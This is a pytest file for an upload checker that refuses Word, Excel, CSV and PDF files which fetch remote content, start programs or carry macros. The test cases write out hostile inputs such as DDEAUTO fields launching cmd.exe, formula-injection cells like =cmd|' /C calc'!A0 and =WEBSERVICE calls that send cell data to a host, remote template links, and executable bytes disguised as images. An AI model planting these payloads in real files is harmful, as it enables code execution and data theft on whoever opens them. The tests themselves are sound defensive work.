"""Files that fetch, start or send something when they are opened are refused by what they do."""

from __future__ import annotations

import pytest

from auth.uploads.check import examine
from auth.uploads.kinds import CSV, EXCEL, WORD
from auth.uploads.refusal import RefusedFile
from tests.auth.uploads import made

TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def related(kind: str, target: str, *, mode: str = "External") -> bytes:
    """A Word file with one relationship."""
    external = f' TargetMode="{mode}"' if mode else ""
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{TYPES}/{kind}" Target="{target}"{external}/></Relationships>'
    )
    return made.word("x", more={"word/_rels/document.xml.rels": rels})


@pytest.mark.parametrize(
    ("kind", "target", "why"),
    [
        ("attachedTemplate", "https://example.org/a.dotm", "fetches its template"),
        ("attachedTemplate", "\\\\server\\share\\a.dotm", "fetches its template"),
        ("image", "http://example.org/pixel.png", "fetches a picture"),
        ("oleObject", "file:///c:/a.exe", "fetches an object"),
        ("frame", "https://example.org/", "fetches a part"),
        ("mailMergeSource", "https://example.org/", "fetches a part"),
    ],
)
def test_what_is_fetched_from_elsewhere_is_refused(kind: str, target: str, why: str) -> None:
    with pytest.raises(RefusedFile, match=why):
        examine("x.docx", related(kind, target))


def test_links_that_a_reader_follows_are_kept() -> None:
    assert examine("x.docx", related("hyperlink", "https://www.england.nhs.uk/")) is WORD
    for workbook in ("Budget 2026.xlsx", "file:///\\\\server\\Budget 2026.xlsx"):
        assert examine("x.docx", related("externalLinkPath", workbook)) is WORD
    assert examine("x.docx", related("image", "media/image1.png", mode="")) is WORD


def test_a_chunk_of_another_kind_is_refused() -> None:
    with pytest.raises(RefusedFile, match="takes in another file"):
        examine("x.docx", related("aFChunk", "afchunk.mht", mode=""))
    body = (
        "<w:document><w:body><w:altChunk r:id='x' xmlns:r='r' xmlns:w='w'/></w:body></w:document>"
    )
    with pytest.raises(RefusedFile, match="takes in another file"):
        examine("x.docx", made.word("x", more={"word/glossary/document.xml": body}))


def field(*pieces: str) -> bytes:
    """A Word file with a field whose instruction is spread over several runs."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, apart = (f'<w:r><w:fldChar w:fldCharType="{k}"/></w:r>' for k in ("begin", "separate"))
    inner = f"<w:hdr><w:p>{begin}{runs}{apart}<w:r><w:t>x</w:t></w:r></w:p></w:hdr>"
    return made.word("x", more={"word/header1.xml": inner})


@pytest.mark.parametrize(
    "pieces",
    [
        ('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',),
        ("D", "DE", "AUTO cmd"),
        (" dde ", "excel a b"),
        ('INCLUDEPICTURE "http://example.org/a.png"',),
        ("INCLUDE", "TEXT \\\\\\\\server\\\\a.docx"),
    ],
)
def test_fields_that_start_or_fetch_are_refused(pieces: tuple[str, ...]) -> None:
    with pytest.raises(RefusedFile, match="starts another program"):
        examine("x.docx", field(*pieces))


@pytest.mark.parametrize("pieces", [("PAGE",), ("TOC \\o", ' "1-3"'), ("DATE",), ("REF dde_note",)])
def test_ordinary_fields_are_kept(pieces: tuple[str, ...]) -> None:
    assert examine("x.docx", field(*pieces)) is WORD


def test_simple_fields_and_links_of_workbooks_are_looked_at() -> None:
    simple = '<w:hdr><w:fldSimple w:instr="DDE cmd x"/></w:hdr>'
    with pytest.raises(RefusedFile, match="starts another program"):
        examine("x.docx", made.word("x", more={"word/header1.xml": simple}))


@pytest.mark.parametrize(
    "cell",
    [
        *("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=WEBSERVICE("http://x/"&A1)'),
        *('=IMAGE("http://x/"&A1)', '=IMPORTXML("http://x/","//a")', '=RTD("a.b","","c")'),
    ],
)
def test_formulas_that_start_or_send_are_refused(cell: str) -> None:
    quoted = '"' + cell.replace('"', '""') + '"'
    with pytest.raises(RefusedFile, match="starts another program"):
        examine("x.csv", made.csv("Note,Count", f"{quoted},3"))
    if cell.startswith("="):
        with pytest.raises(RefusedFile, match="starts another program"):
            examine("x.xlsx", made.excel([["Note"], [cell]]))


def test_ordinary_formulas_are_kept() -> None:
    assert examine("x.xlsx", made.excel([[1, 2], ["=SUM(A1:B1)", "=Sheet1!A1*2"]])) is EXCEL
    assert examine("x.csv", made.csv("Change", "-3.4", "+2", "=A1+B1")) is CSV


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("word/media/image1.png", b"MZ\x90\x00"),
        ("word/media/image1.png", b"\x7fELF"),
        ("word/media/run", b"#!/bin/sh"),
        ("xl/macrosheets/sheet1.xml", b"<x/>"),
        ("customUI/customUI.xml", b"<x/>"),
        ("word/webextensions/webextension1.xml", b"<x/>"),
    ],
)
def test_programs_inside_are_refused(name: str, content: bytes) -> None:
    with pytest.raises(RefusedFile, match="macros or programs"):
        examine("x.docx", made.word("x", more={name: content}))


@pytest.mark.parametrize("action", ["SubmitForm", "ImportData", "GoToE", "Launch"])
def test_pdfs_that_send_or_start_are_refused(action: str) -> None:
    with pytest.raises(RefusedFile, match="scripts, attached files or a form"):
        examine("x.pdf", made.pdf(action=action))


def test_tables_fetched_at_opening_and_shapes_that_start_programs_are_refused() -> None:
    def connected(when: str) -> bytes:
        body = f"<connections><connection id='1' {when}><webPr url='http://x/'/></connection></connections>"
        return made.word("x", more={"xl/connections.xml": body})

    with pytest.raises(RefusedFile, match="fetches a table"):
        examine("x.docx", connected("refreshOnLoad='1'"))
    assert examine("x.docx", connected("refreshOnLoad='0'")) is WORD
    for action in ("ppaction://program", "ppaction://macro?name=a"):
        slide = f"<p:sld xmlns:p='p' xmlns:a='a'><a:hlinkClick action='{action}'/></p:sld>"
        with pytest.raises(RefusedFile, match="starts another program"):
            examine("x.docx", made.word("x", more={"ppt/slides/slide2.xml": slide}))
    slide = (
        "<p:sld xmlns:p='p' xmlns:a='a'><a:hlinkClick action='ppaction://hlinksldjump'/></p:sld>"
    )
    assert examine("x.docx", made.word("x", more={"ppt/slides/slide2.xml": slide})) is WORD
